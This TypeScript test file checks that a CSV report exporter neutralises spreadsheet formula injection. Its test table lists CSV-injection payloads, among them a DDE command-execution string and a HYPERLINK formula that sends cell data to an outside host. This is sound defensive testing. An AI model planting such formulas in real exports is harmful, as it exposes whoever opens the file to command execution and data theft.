import assert from "node:assert/strict";
import { test } from "vitest";
import type { ReportColumn } from "../../src/core/report.ts";
import { harmless, toCsv } from "../../src/reports/csv.ts";
import { countedReport, serveReports } from "./stage.ts";

/** `true`: as it is; `false`: with an apostrophe in front. Beginnings that some spreadsheet runs as a formula or a command (OWASP, "CSV injection"), and near misses. */
const cells: ReadonlyArray<readonly [given: string, expected: string | boolean]> = [
  ["=1+1", false],
  ["=cmd|' /C calc'!A0", false],
  ['=HYPERLINK("http://example.org?x="&A1,"click")', false],
  ["+1+1", false],
  ["-1+1", false],
  ["-2", false], // text, not a number: numbers are written by us
  ["@SUM(1,1)", false],
  ["\t=1", "'\t'=1"],
  ["\r=1", "'\r'=1"],
  ["\n=1", "'\n'=1"],
  ["  =1", false],
  ["\u00A0=1", false],
  ["\uFEFF=1", false],
  ["\u200B=1", false],
  ["＝1+1", false],
  ["＋1", false],
  ["－1", false],
  ["＠SUM(1)", false],
  ["|calc", false],
  ["%0A=1", false],
  ["a;=1+1", "a;'=1+1"],
  ["a;b; =1+1", "a;b; '=1+1"],
  ["a\t@SUM(1)", "a\t'@SUM(1)"],
  ["a\n=1+1", "a\n'=1+1"],
  ["=1;=2", "'=1;'=2"],
  ["1=1", true],
  ["a-b", true],
  ["Omega 3", true],
  ["'quoted'", true],
  ["", true],
  ["₹ 100", true],
];

test.for(cells)("%j is written so that no spreadsheet runs it", ([given, expected]) => {
  assert.equal(harmless(given), expected === true ? given : expected === false ? `'${given}` : expected);
});

test("separators and quotes inside a cell stay inside it, numbers stay numbers, nothing is an empty cell", () => {
  const columns: ReportColumn[] = ["text", "number", "flag", "none"].map((name) => ({
    ...{ name, title: name, type: "text" },
  }));
  const rows = [
    { text: 'a,"b"\r\nc;d', number: -1.5, flag: true, none: null },
    { text: '=1,"2"', number: 1e21, flag: false, none: null },
  ];
  assert.equal(
    toCsv(columns, rows),
    'text,number,flag,none\r\n"a,""b""\r\nc;d",-1.5,true,\r\n"\'=1,""2""",1e+21,false,\r\n',
  );
});

test("a report as CSV: a file with a header, safe to open, with the same ETag as its JSON", async () => {
  const { report } = countedReport({ say: () => "=1+1" });
  await using api = await serveReports(report);
  await api.rig.work();
  const json = await api.ask("/v1/reports/counted?wait=60s");
  assert.equal(json.body.rows[0].say, "=1+1", "JSON is data: it stays as it is");
  const { status, headers, body } = await api.ask("/v1/reports/counted?format=csv");
  assert.equal(status, 200);
  assert.equal(headers.get("content-type"), "text/csv; charset=utf-8; header=present");
  assert.match(headers.get("content-disposition")!, /attachment; filename="counted.csv"/);
  assert.equal(headers.get("etag"), json.headers.get("etag"));
  assert.equal(body, 'tenant,n,say\r\nacme,1,"\'=1+1"\r\n');
});
